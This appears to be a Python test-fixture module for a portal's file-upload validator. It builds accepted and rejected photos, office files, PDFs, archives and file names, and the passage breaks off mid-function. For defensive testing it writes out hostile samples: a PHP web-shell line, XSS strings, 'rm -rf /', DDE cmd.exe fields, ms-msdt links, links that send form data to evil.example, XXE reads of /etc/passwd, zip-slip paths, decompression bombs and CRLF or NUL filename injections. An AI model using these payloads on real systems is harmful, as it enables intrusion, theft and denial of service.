"""Odd and hostile files by name, as attackers and old programs make them: what of them comes in.

Each table gives a name its content and what the refusal says, a piece of the sentence, or None for
what comes in. Beside them: names that a file may have been given.
"""

import io
import struct
import zlib
from functools import cache

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from tests.portal import bad_files, photo_files
from tests.portal.bad_files import archive, docx, encoded, jpeg, odf, pdf, png_head, xlsx

PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"*/=1;alert(document.domain)//"
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert(1)</script></x:xmpmeta>'

NOT_A_PHOTO = "không phải ảnh đọc được"
DAMAGED = "bị hỏng hoặc"
TOO_MANY_PIXELS = "hơn 50 triệu điểm ảnh"
TOO_MUCH_MEMORY = "quá nhiều đối với loại tệp này"
SIDES = "xin chọn ảnh có mỗi cạnh từ 16 đến 12000"
EMPTY = "rỗng, xin chọn tệp khác"


# ── Photos ──────────────────────────────────────────────────────────────────────────────────────


def _small(mode: str = "RGB", colour=(200, 30, 30)) -> Image.Image:
    return Image.new(mode, (64, 48), colour)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(head: bytes, pixels: bytes, *more: bytes) -> bytes:
    start = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head)
    return start + b"".join(more) + _chunk(b"IDAT", zlib.compress(pixels)) + _chunk(b"IEND", b"")


def _colour_16_bit_png() -> bytes:
    row = b"\0" + struct.pack(">HHH", 0xC8C8, 0x1E1E, 0x1E1E) * 32
    return _png(struct.pack(">IIBBBBB", 32, 32, 16, 2, 0, 0, 0), row * 32)


def _big_head(width: int, height: int, *, depth: int, kind: int) -> bytes:
    return _png(struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0), bytes(100))


def _png_that_tells() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", bad_files.GPS_NOTE.decode())
    notes.add_itxt("XML:com.adobe.xmp", XMP.decode(), zip=True)
    exif = Image.Exif()
    exif[0x010E] = bad_files.GPS_NOTE.decode()
    return encoded(_small(), "PNG", pnginfo=notes, exif=exif, icc_profile=b"odd")


def _webp_that_tells() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = bad_files.GPS_NOTE.decode()
    return encoded(_small(), "WEBP", exif=exif.tobytes(), xmp=XMP, icc_profile=b"odd")


def _jpeg_that_tells() -> bytes:
    """With a thumbnail in its EXIF, as cameras write it, XMP, a comment and Photoshop's block."""
    thumbnail = encoded(_small(), "JPEG")
    head = b"MM\0*\0\0\0\x08" + struct.pack(">HHHII", 1, 0x010E, 2, 4, 0x61620000)
    second = struct.pack(">I", len(head) + 4) + struct.pack(">H", 2)
    at = len(head) + len(second) + 24 + 4
    second += struct.pack(">HHII", 0x0201, 4, 1, at)
    second += struct.pack(">HHII", 0x0202, 4, 1, len(thumbnail)) + bytes(4)
    exif = b"Exif\0\0" + head + second + thumbnail
    return jpeg(96, 64, exif=exif, xmp=XMP, comment=PHP, icc_profile=b"odd")


def _gif_that_tells() -> bytes:
    return encoded(_small("P", 1), "GIF", comment=bad_files.GPS_NOTE + SCRIPT)


def _gif_that_is_a_script() -> bytes:
    """Its width is the start of a comment in JavaScript, its end the code."""
    gif = bytearray(encoded(Image.new("P", (0x2A2F % 600, 64), 1), "GIF"))
    return bytes(gif) + SCRIPT


def _mpo() -> bytes:
    return encoded(
        bad_files.scene(160, 120), "MPO", save_all=True, append_images=[bad_files.scene(160, 120)]
    )


def _apng() -> bytes:
    return encoded(
        _small(), "PNG", save_all=True, append_images=[_small("RGB", (30, 30, 200))], duration=50
    )


def _animated_webp() -> bytes:
    return encoded(
        _small(), "WEBP", save_all=True, append_images=[_small("RGB", (30, 30, 200))], duration=50
    )


@cache
def _fifty_megapixels() -> bytes:
    """A phone's largest: 8160 × 6120."""
    return encoded(Image.new("RGB", (8160, 6120), (90, 120, 90)), "JPEG", quality=50)


def _many_scans() -> bytes:
    """A progressive JPEG whose last scan comes 300 times: each costs a pass over the picture."""
    content = encoded(bad_files.scene(64, 48), "JPEG", progressive=True)
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * 300 + content[-2:]


def _gif_head(width: int, height: int) -> bytes:
    descriptor = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
    screen = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0" + bytes(6)
    return screen + descriptor + b"\x02\x02\x4c\x01\0;"


def _jpeg_head(width: int, height: int) -> bytes:
    content = jpeg(64, 48)
    size = struct.pack(">HH", 48, 64)
    at = content.index(size, content.index(b"\xff\xc0"))
    return content[:at] + struct.pack(">HH", height, width) + content[at + 4 :]


def _webp_head(width: int, height: int) -> bytes:
    """Without loss, one colour: 26 bytes for whatever size."""
    content = encoded(Image.new("RGB", (64, 48)), "WEBP", lossless=True)
    at = content.index(b"VP8L") + 9
    bits = (width - 1) | (height - 1) << 14
    return content[:at] + struct.pack("<I", bits) + content[at + 4 :]


def _text_bomb_png() -> bytes:
    text = b"Comment\0\0" + zlib.compress(bytes(80 * 1024 * 1024), 9)
    head = struct.pack(">IIBBBBB", 32, 32, 8, 0, 0, 0, 0)
    return _png(head, b"\0" * 33 * 32, _chunk(b"zTXt", text))


PHOTOS: dict[str, tuple[bytes, str | None]] = {
    **{f"phone, orientation {n}": (bad_files.phone_jpeg(320, 240, orientation=n), None)
       for n in range(1, 9)},
    "cmyk": (bad_files.cmyk_jpeg(), None),
    "cmyk without Adobe's mark": (bad_files.cmyk_jpeg().replace(b"Adobe", b"Bdobe"), None),
    "grey of 16 bits": (bad_files.grey_16_bit_png(), None),
    "colour of 16 bits": (_colour_16_bit_png(), None),
    "palette with a hole": (bad_files.palette_png(), None),
    "half transparent": (bad_files.alpha_png(), None),
    "grey and transparent": (encoded(_small("LA", (90, 128)), "PNG"), None),
    "one bit": (encoded(_small("1", 1), "PNG"), None),
    "moving gif": (bad_files.animated_gif(), None),
    "moving webp": (_animated_webp(), None),
    "moving png": (_apng(), None),
    "heic": (bad_files.heic(), None),
    "two pictures in one": (_mpo(), None),
    "broken profile": (jpeg(160, 120, icc_profile=b"\0" * 200), None),
    "swapped profile": (bad_files.swapped_profile_jpeg(), None),
    "grey with a colour profile": (
        encoded(_small("L", 90), "JPEG", icc_profile=b"\0" * 128), None),
    "thumbnail, XMP and PHP": (_jpeg_that_tells(), None),
    "png that tells": (_png_that_tells(), None),
    "webp that tells": (_webp_that_tells(), None),
    "gif that tells": (_gif_that_tells(), None),
    "IPTC": (photo_files.jpeg(iptc={photo_files.CAPTION: b"Hoi nghi"}, size=(96, 64)), None),
    "jpeg, then HTML": (jpeg(96, 64) + bad_files.HTML, None),
    "jpeg, then a zip": (jpeg(96, 64) + archive({"a.php": PHP}), None),
    "png, then PHP": (encoded(_small(), "PNG") + PHP, None),
    "gif and JavaScript": (_gif_that_is_a_script(), None),
    "webp, then HTML": (encoded(_small(), "WEBP") + bad_files.HTML, None),
    "HTML in a comment": (jpeg(96, 64, comment=bad_files.HTML), None),
    "progressive": (jpeg(160, 120, progressive=True), None),
    "interlaced": (_png(struct.pack(">IIBBBBB", 16, 16, 8, 0, 0, 0, 1), bytes(16 * 17 + 30)), None),
    "without loss": (encoded(_small(), "WEBP", lossless=True), None),
    "smallest": (encoded(Image.new("RGB", (16, 16)), "PNG"), None),
    "50 megapixels of a phone": (_fifty_megapixels(), None),
    # ── refused
    "empty": (b"", EMPTY),
    "one byte": (b"\xff", NOT_A_PHOTO),
    "HTML": (bad_files.HTML, NOT_A_PHOTO),
    "SVG": (bad_files.SVG, NOT_A_PHOTO),
    "packed SVG": (zlib.compress(bad_files.SVG), NOT_A_PHOTO),
    "PHP": (PHP, NOT_A_PHOTO),
    "JavaScript that begins like a gif": (b"GIF89a" + SCRIPT, NOT_A_PHOTO),
    "PDF": (pdf(), NOT_A_PHOTO),
    "PDF, then a jpeg": (pdf() + jpeg(96, 64), NOT_A_PHOTO),
    "zip, then a jpeg": (archive({"a.txt": "a"}) + jpeg(96, 64), NOT_A_PHOTO),
    **{kind: (encoded(_small(), kind), NOT_A_PHOTO) for kind in ("BMP", "TIFF", "ICO", "PPM")},
    "TGA": (encoded(_small(), "TGA"), NOT_A_PHOTO),
    "JPEG 2000": (encoded(_small(), "JPEG2000"), NOT_A_PHOTO),
    "AVIF": (encoded(_small(), "AVIF"), NOT_A_PHOTO),
    "PSD": (b"8BPS\0\x01" + bytes(64), NOT_A_PHOTO),
    "WMF": (b"\xd7\xcd\xc6\x9a" + bytes(64), NOT_A_PHOTO),
    "PostScript": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", NOT_A_PHOTO),
    "png bomb": (png_head(20_000, 20_000), TOO_MANY_PIXELS),
    "gif bomb": (_gif_head(65_535, 65_535), TOO_MANY_PIXELS),
    "jpeg bomb": (_jpeg_head(65_500, 65_500), TOO_MANY_PIXELS),
    "webp bomb": (_webp_head(16_383, 16_383), TOO_MANY_PIXELS),
    "heic bomb": (bad_files.heic_bomb(), TOO_MANY_PIXELS),
    "transparent png of 48 megapixels": (
        _big_head(8_000, 6_000, depth=8, kind=6), TOO_MUCH_MEMORY),
    "png of 16 bits and 48 megapixels": (
        _big_head(8_000, 6_000, depth=16, kind=0), TOO_MUCH_MEMORY),
    "webp of 40 megapixels": (_webp_head(8_000, 5_000), TOO_MUCH_MEMORY),
    "many scans": (_many_scans(), "cấu trúc khác thường"),
    "text bomb": (_text_bomb_png(), NOT_A_PHOTO),
    "line": (png_head(60_000, 1), SIDES),
    "no width": (png_head(0, 100), NOT_A_PHOTO),
    "15 pixels": (encoded(Image.new("RGB", (15, 15)), "PNG"), SIDES),
    "ribbon": (encoded(Image.new("RGB", (640, 16)), "PNG"), "quá dài và hẹp"),
    "11 MB": (jpeg(96, 64) + bytes(11 * 1024 * 1024), "Ảnh 11 MB, tối đa 10 MB"),
    "half a jpeg": (jpeg(400, 300)[:8000], DAMAGED),
    "half a png": (bad_files.alpha_png()[:-60], DAMAGED),
    "half a gif": (encoded(bad_files.scene(200, 150).convert("P"), "GIF")[:4000], DAMAGED),
    "half a webp": (encoded(bad_files.scene(200, 150), "WEBP")[:1500], NOT_A_PHOTO),
    "half a heic": (bad_files.heic()[:-60], DAMAGED),
    **{
        f"{length} bytes of a {kind}": (content[:length], NOT_A_PHOTO)
        for kind, content in (
            ("jpeg", jpeg(64, 48)),
            ("png", encoded(_small(), "PNG")),
            ("gif", encoded(_small("P", 1), "GIF")),
            ("webp", encoded(_small(), "WEBP")),
            ("heic", bad_files.heic()),
        )
        for length in (3, 8, 12)
    },
}  # fmt: skip


# ── Documents ───────────────────────────────────────────────────────────────────────────────────
UNKNOWN = "không thuộc loại được phép"
BROKEN = "bị hỏng hoặc thiếu một phần"
LOCKED = "có mật khẩu, xin lưu lại không có mật khẩu"
ACTIVE = "có mã lệnh tự chạy khi mở"
CARRIER = "có tệp khác nằm bên trong"
MACROS = "có macro"
EXTERNAL = "lấy mẫu, ảnh hoặc số liệu từ nơi khác"
TOO_MUCH = "quá lớn khi giải nén"
TOO_COMPLEX = "quá phức tạp để kiểm tra"
NOT_ALLOWED = "không được phép, xin bỏ ra"


def _pdf_aes(**passwords) -> bytes:
    writer, buffer = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    writer.encrypt(algorithm="AES-256", **passwords)
    writer.write(buffer)
    return buffer.getvalue()


def _pdf_link(kind: str, **entries) -> bytes:
    """A PDF with one link on its page that does something."""

    def change(writer):
        link = DictionaryObject(
            {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): _act(kind, **entries)}
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])

    return pdf(change=change)


def pdf_linking_to(*addresses: str) -> bytes:
    """A PDF with a link to each address."""

    def change(writer):
        actions = [writer._add_object(_act("/URI", URI=address)) for address in addresses]
        name = NameObject("/A")
        writer.pages[0][NameObject("/Annots")] = ArrayObject(
            DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), name: action})
            for action in actions
        )

    return pdf(change=change)


def _act(kind: str, **entries) -> DictionaryObject:
    values = {NameObject("/S"): NameObject(kind)}
    return DictionaryObject(
        values | {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
    )


def _pdf_by_hand(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, the first of them the catalogue."""
    content, places = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R%b>>\n" % (len(objects) + 1, trailer)
    return content + head + table + end + b"startxref\n%d\n%%%%EOF\n" % len(content)


_PAGES = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (entries, len(data), data)


def pdf_of_one_huge_object_stream() -> bytes:
    """1 GB of spaces in 1 MB, where the document's own objects are said to stand."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"3 0 ")
    for _piece in range(1024):
        packed += packer.compress(b" " * 1024 * 1024)
    packed += packer.flush()
    entries = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
    objects = [*_PAGES, _stream(entries, packed)]
    content, places = b"%PDF-1.5\n", []
    for number, body in zip((1, 2, 4), objects, strict=True):
        places.append(len(content))
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = b"".join(
        struct.pack(">BIB", *row)
        for row in ((0, 0, 0), (1, places[0], 0), (1, places[1], 0), (2, 4, 0), (1, places[2], 0))
    )
    table = _stream(b"/Type/XRef/W[1 4 1]/Size 5/Root 1 0 R", rows)
    return content + b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(content))


def pdf_of_objects(number: int) -> bytes:
    """One page, and so many objects that nothing leads to."""
    return _pdf_by_hand([*_PAGES, _PAGE, *[b"<</A[1 2 3]/B(b)>>"] * number])


def pdf_of_shared_pages(depth: int = 26) -> bytes:
    """2²⁶ pages out of 30 objects: each node of the tree names the next one twice."""
    nodes = [
        b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (n + 1, n + 1, 2 ** (depth - n + 2))
        for n in range(2, depth + 2)
    ]
    return _pdf_by_hand([_PAGES[0], *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def _odf_with(inner: str, *, kind: str = "text", part: str = "content.xml") -> bytes:
    names = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "draw", "table", "script", "meta")
    )
    names += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    return odf(kind, {part: f"<office:document-content{names}>{inner}</office:document-content>"})


def _link(tag: str, address: str, *, kind: str = "text", part: str = "content.xml") -> bytes:
    return _odf_with(f'<{tag} xlink:href="{address}"/>', kind=kind, part=part)


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _word(paragraph: str) -> bytes:
    body = f"<w:document {_W}><w:body><w:p>{paragraph}</w:p></w:body></w:document>"
    return docx({"word/document.xml": body})


def _field(*pieces: str) -> bytes:
    return _word("".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces))


def _text_elsewhere(name: str, *, encoding: str = "UTF-8") -> bytes:
    """A Word file whose relationships name another part as its text than the one that is shown."""
    field = "<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>"
    real = f"<w:document {_W}><w:body><w:p>{field}</w:p></w:body></w:document>"
    main = bad_files.relations("officeDocument", f"/{name}", mode="Internal")
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return docx({"_rels/.rels": main, name: head + real})


def _formula(formula: str) -> bytes:
    sheet = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    return xlsx({"xl/worksheets/sheet1.xml": sheet})


def _related(kind: str, target: str, mode: str = "External") -> bytes:
    relations = bad_files.relations(kind, target, mode=mode)
    return docx({"word/_rels/document.xml.rels": relations})


def _laughs(tag: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{levels}]><{tag}>&l9;</{tag}>'


def _ole(stream: str) -> bytes:
    """An OLE object in whose directory a stream of that name stands."""
    return bad_files.OLD_WORD + stream.encode("utf-16-le") + bytes(512)


def _twice() -> bytes:
    """An archive that names one file twice, each time with other words."""
    return archive({"a.txt": "one", "b.txt": "two"}).replace(b"b.txt", b"A.txt")


_BIG = bytes(30 * 1024 * 1024)
_FAR = "https://evil.example/x"

DOCUMENTS: dict[str, tuple[bytes, str | None]] = {
    "pdf": (pdf(), None),
    "pdf under AES that opens without a password": (
        _pdf_aes(user_password="", owner_password="x"), None),
    "pdf with a line end behind it": (pdf() + b"\r\n\0", None),
    "pdf with a link": (_pdf_link("/URI", URI="https://langson.gov.vn/"), None),
    "docx": (docx(), None),
    "docx with a link": (_related("hyperlink", "https://langson.gov.vn/"), None),
    "docx with a formula of old": (
        docx({"word/embeddings/oleObject1.bin": _ole("Equation Native")}), None),
    "docx with a chart's table": (docx({"word/embeddings/Sheet1.xlsx": xlsx()}), None),
    "docx with a page number": (_field(" PAGE "), None),
    "docx with a picture once copied from a page": (_field(f' INCLUDEPICTURE "{_FAR}" '), None),
    "xlsx": (xlsx(), None),
    "odt": (odf(), None),
    "ods": (odf("spreadsheet"), None),
    "odt with a link": (_link("text:a", "https://langson.gov.vn/"), None),
    "odt with its picture": (_link("draw:image", "Pictures/1.png"), None),
    "odt with its object": (_link("draw:object", "./Object 1"), None),
    "odt with no scripts": (_odf_with("<office:scripts/>"), None),
    "odt made from a template": (
        _link("meta:template", "../../../mau/cong-van.ott", part="meta.xml"), None),
    "ods with a sum": (
        _odf_with('<table:table-cell table:formula="of:=SUM([.A1:.A3])"/>', kind="spreadsheet"),
        None),
    "zip": (archive({"thư mục/a.txt": "a", "b.pdf": pdf()}), None),
    # ── refused
    "empty": (b"", EMPTY),
    "one byte": (b"%", UNKNOWN),
    "html": (bad_files.HTML, UNKNOWN),
    "svg": (bad_files.SVG, UNKNOWN),
    "program": (b"MZ" + bytes(200), UNKNOWN),
    "program of Linux": (b"\x7fELF" + bytes(200), UNKNOWN),
    "shell": (b"#!/bin/sh\nrm -rf /\n", UNKNOWN),
    "rtf": (b"{\\rtf1 {\\object\\objocx}}", UNKNOWN),
    "rar": (b"Rar!\x1a\x07\x01\0" + bytes(64), UNKNOWN),
    "7z": (b"7z\xbc\xaf'\x1c" + bytes(64), UNKNOWN),
    "gzip": (b"\x1f\x8b\x08" + bytes(64), UNKNOWN),
    "letter": (b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n", UNKNOWN),
    "shortcut of Windows": (b"L\0\0\0\x01\x14\x02\0" + bytes(64), UNKNOWN),
    "flat odt": (f'<office:document xmlns:office="{_OFFICE}"/>'.encode(), UNKNOWN),
    "old office": (bad_files.OLD_WORD, "định dạng Office cũ"),
    "photo": (jpeg(96, 64), UNKNOWN),
    "jpeg, then a pdf": (jpeg(96, 64) + pdf(), UNKNOWN),
    "pdf, then a zip": (pdf() + archive({"a.txt": "a"}), BROKEN),
    "pdf, then HTML": (pdf() + bad_files.HTML, BROKEN),
    "pdf with a password": (pdf(user_password="x"), LOCKED),
    "pdf with a password, AES": (_pdf_aes(user_password="x"), LOCKED),
    "pdf under a cipher of its own": (
        _pdf_by_hand([*_PAGES, _PAGE, b"<</Filter/Mine/V 9/R 9>>"], trailer=b"/Encrypt 4 0 R"
                     b"/ID[(a)(a)]"), LOCKED),
    "pdf with a script": (bad_files.pdf_with_script(), ACTIVE),
    "pdf with a script on a page": (bad_files.pdf_with_script_on_a_page(), ACTIVE),
    "pdf that starts a program": (bad_files.pdf_with_launch_on_opening(), ACTIVE),
    "the same named elsewhere": (bad_files.pdf_with_launch_named_elsewhere(), ACTIVE),
    "pdf with a scripted form": (bad_files.pdf_with_scripted_form(), ACTIVE),
    "pdf that starts a program by its address": (_pdf_link("/URI", URI="ms-\tmsdt:/id x"), ACTIVE),
    "pdf that runs a script by address": (_pdf_link("/URI", URI=" javascript:x()"), ACTIVE),
    "pdf that sends a form": (_pdf_link("/SubmitForm", F=_FAR), ACTIVE),
    "pdf that opens another machine's file": (_pdf_link("/GoToR", F="\\\\evil\\a.pdf"), ACTIVE),
    "pdf that opens a file within": (_pdf_link("/GoToE", F="a.pdf"), ACTIVE),
    "pdf with a film": (
        pdf(change=lambda writer: writer._add_object(DictionaryObject(
            {NameObject("/Subtype"): NameObject("/RichMedia")}))), ACTIVE),
    "pdf with a file": (bad_files.pdf_with_file(), CARRIER),
    "pdf without pages": (pdf(0), BROKEN),
    "pdf of nothing": (b"%PDF-1.7\n%%EOF", BROKEN),
    "pdf of one huge stream": (pdf_of_one_huge_object_stream(), TOO_COMPLEX),
    **{f"{share} % of a pdf": (pdf(20)[: len(pdf(20)) * share // 100], BROKEN)
       for share in (10, 50, 95)},
    "docm": (docx({"word/vbaProject.bin": "x"}, main=bad_files.DOCM_MAIN), MACROS),
    "docm that calls itself docx": (docx({"word/vbaProject.bin": "x"}), MACROS),
    "template from outside": (
        docx({"word/_rels/settings.xml.rels": bad_files.relations("attachedTemplate", _FAR)}),
        EXTERNAL),
    "object from outside": (_related("oleObject", "mhtml:https://evil.example/x!y"), EXTERNAL),
    "frame from outside": (_related("frame", _FAR), EXTERNAL),
    "link that is a script": (_related("hyperlink", "javascript:alert(1)"), ACTIVE),
    "link that starts a program": (_related("hyperlink", "ms-msdt:/id PCWDiagnostic"), ACTIVE),
    "page taken in": (_related("aFChunk", "a.html", mode="Internal"), CARRIER),
    "DDE": (_field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "), ACTIVE),
    "DDE in pieces": (_field(" D", "DE", "AUTO excel"), ACTIVE),
    "DDE in a short field": (_word('<w:fldSimple w:instr=" DDE excel x "/>'), ACTIVE),
    "DDE in numbers": (_field(" QUOTE 68 68 69 65 85 84 79 "), ACTIVE),
    "DDE in a header": (
        docx({"word/header1.xml": f"<w:hdr {_W}><w:p><w:r><w:instrText>DDE x</w:instrText></w:r>"
              "</w:p></w:hdr>"}), ACTIVE),
    "file in a wrapper": (
        docx({"word/embeddings/oleObject1.bin": _ole("\x01Ole10Native")}), CARRIER),
    "object with macros": (
        docx({"word/embeddings/oleObject1.bin": _ole("_VBA_PROJECT")}), MACROS),
    "program within": (docx({"word/embeddings/a.exe": b"MZ"}), NOT_ALLOWED),
    "table with macros within": (
        docx({"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": "x"})}), NOT_ALLOWED),
    "data from outside": (
        xlsx({"xl/_rels/x.rels": bad_files.relations("externalLinkPath", _FAR)}), EXTERNAL),
    "DDE of Excel": (
        xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink xmlns="x"><ddeLink '
              'ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), EXTERNAL),
    "entities in docx": (docx({"docProps/app.xml": _laughs("Pages")}), BROKEN),
    "entities in a text": (docx({"word/document.xml": _laughs("x")}), BROKEN),
    "docx whose text lies where nobody looks": (_text_elsewhere("x/real.xml"), ACTIVE),
    "docx whose text has another ending": (_text_elsewhere("word/real.dat"), ACTIVE),
    "docx whose text has an unknown encoding": (
        _text_elsewhere("word/real.dat", encoding="x-unknown"), BROKEN),
    "docx with a file where nobody looks": (
        _related("oleObject", "other/a.bin", mode="Internal"), CARRIER),
    "docx with a file at the top": (docx({"embeddings/a.bin": _ole("\x01Ole10Native")}), CARRIER),
    "xlsx that fetches": (_formula("_xlfn.WEBSERVICE(A1)"), EXTERNAL),
    "xlsx that shows a picture": (_formula("_xlfn.IMAGE(A1)"), EXTERNAL),
    "entities in xlsx": (xlsx({"[Content_Types].xml": _laughs("Types")}), BROKEN),
    "entities in odt": (odf(more={"content.xml": _laughs("x")}), BROKEN),
    "entities in a manifest": (odf(more={"META-INF/manifest.xml": _laughs("x")}), BROKEN),
    "file of the server in odt": (
        odf(more={"content.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}), BROKEN),
    "docx of elements": (
        docx({"word/_rels/a.xml.rels": "<a>" + "<b/>" * 1_000_000 + "</a>"},), TOO_MUCH),
    "docx bomb": (docx({"word/media/a.bin": _BIG}), TOO_MUCH),
    "xlsx bomb": (xlsx({"xl/a.bin": _BIG}), TOO_MUCH),
    "odt bomb": (odf(more={"Pictures/a.bin": _BIG}), TOO_MUCH),
    "zip bomb": (archive({"a.txt": _BIG}), TOO_MUCH),
    "zip of zips": (archive({"a.zip": archive({"a.zip": archive({"a.txt": "a"})})}), NOT_ALLOWED),
    "bomb in a zip": (archive({"a.docx": docx({"word/media/a.bin": _BIG}), "b.txt": "b"}),
                      NOT_ALLOWED),
    "odt with basic": (odf(more={"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
    "odt with scripts": (odf(more={"Scripts/python/a.py": "x"}), MACROS),
    "odt that listens": (
        _odf_with('<script:event-listener script:language="ooo:script" xlink:href="x"/>'), MACROS),
    "odt with a script of its own": (_odf_with("<office:script>x</office:script>"), MACROS),
    "odt with a link to a macro": (_link("text:a", "vnd.sun.star.script:a$b?c"), MACROS),
    "odt with a link that is a script": (_link("text:a", "javascript:alert(1)"), MACROS),
    **{f"odt with {tag} from outside": (_link(tag, _FAR), EXTERNAL)
       for tag in ("draw:image", "draw:object", "text:section-source")},
    "odt with a picture of this machine": (_link("draw:image", "file:///etc/passwd"), EXTERNAL),
    "odt with a picture of another machine": (_link("draw:image", "//evil/a.png"), EXTERNAL),
    "odt with a picture above it": (_link("draw:image", "../../a.png"), EXTERNAL),
    "odt with a frame": (_link("draw:floating-frame", _FAR), EXTERNAL),
    "odt with a picture in its styles": (_link("draw:image", _FAR, part="styles.xml"), EXTERNAL),
    "odt with a template from outside": (_link("meta:template", _FAR, part="meta.xml"), EXTERNAL),
    "ods with a table from outside": (
        _link("table:table-source", _FAR, kind="spreadsheet"), EXTERNAL),
    "ods with DDE": (_odf_with("<office:dde-source/>", kind="spreadsheet"), EXTERNAL),
    "ods that asks a service": (
        _odf_with('<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://a&quot;)"/>',
                  kind="spreadsheet"), EXTERNAL),
    "ods with a cell from outside": (
        _odf_with("<table:table-cell table:formula=\"of:=['https://a/b.ods'#$Sheet1.A1]\"/>",
                  kind="spreadsheet"), EXTERNAL),
    "odt with a password": (bad_files.encrypted_odf(), LOCKED),
    "drawing": (odf("graphics"), UNKNOWN),
    "zip with a password": (bad_files.encrypted_zip(), LOCKED),
    "zip behind HTML": (bad_files.zip_behind_html(), BROKEN),
    "zip, then HTML": (archive({"a.txt": "a"}) + bad_files.HTML, BROKEN),
    "zip with two of one name": (_twice(), BROKEN),
    "zip of nothing": (archive({}), UNKNOWN),
    "zip that climbs": (archive({"../a.txt": "a"}), NOT_ALLOWED),
    "zip that climbs on Windows": (archive({"a\\..\\..\\a.txt": "a"}), NOT_ALLOWED),
    "zip that starts at the root": (archive({"/etc/a.txt": "a"}), NOT_ALLOWED),
    "zip with a drive": (archive({"C:/a.txt": "a"}), NOT_ALLOWED),
    "zip with a turned name": (archive({"anh\u202egpj.txt": "a"}), NOT_ALLOWED),
    "zip with a program": (archive({"a.exe": "MZ"}), NOT_ALLOWED),
    "zip with a script": (archive({"a.js": "x"}), NOT_ALLOWED),
    "zip with HTML": (archive({"a.html": bad_files.HTML}), NOT_ALLOWED),
    "zip with a shortcut": (archive({"a.lnk": "x"}), NOT_ALLOWED),
    "zip with an active pdf": (archive({"a.pdf": bad_files.pdf_with_script()}), NOT_ALLOWED),
    **{f"{length} bytes of a zip": (archive({"a.txt": "a" * 99})[:length], BROKEN)
       for length in (4, 30, 60, 100)},
}  # fmt: skip


# ── Names ───────────────────────────────────────────────────────────────────────────────────────
NAMES = {
    "letters taken apart": "Bi\u0301 thu\u031b.jpg",
    "300 characters": "x" * 296 + ".jpg",
    "path": "../../../etc/passwd.jpg",
    "path of Windows": "..\\..\\boot.jpg",
    "absolute": "/etc/passwd.jpg",
    "drive": "C:\\fakepath\\ảnh.jpg",
    "coded path": "..%2f..%2fa.jpg",
    "NUL": "a.php\x00.jpg",
    "device": "CON.jpg",
    "leading dot": ".htaccess",
    "turned": "anh\u202egpj.exe",
    "no width": "a\u200bb\ufeff.jpg",
    "spaces behind": "a.jpg   ",
    "dots behind": "a.jpg...",
    "dots alone": "...",
    "emoji": "📷🏞️.jpg",
    "HTML": '"><img src=x onerror=alert(1)>.jpg',
    "line end": "a\r\nSet-Cookie: x=1.jpg",
    "ending of a script": "a.php",
    "two endings": "a.jpg.html",
    "semicolon": "a.asp;.jpg",
    "stream of Windows": "a.jpg::$DATA",
    "wide letters": "ａ．ｊｐｇ",
    "template": "{{ 7*7 }}%s%(x)s.jpg",
}


# ── Documents that lead to other sites: the file, the sites ─────────────────────────────────────
def _with_base() -> bytes:
    base = b"<</Type/Catalog/Pages 2 0 R/URI<</Base 4 0 R>>>>"
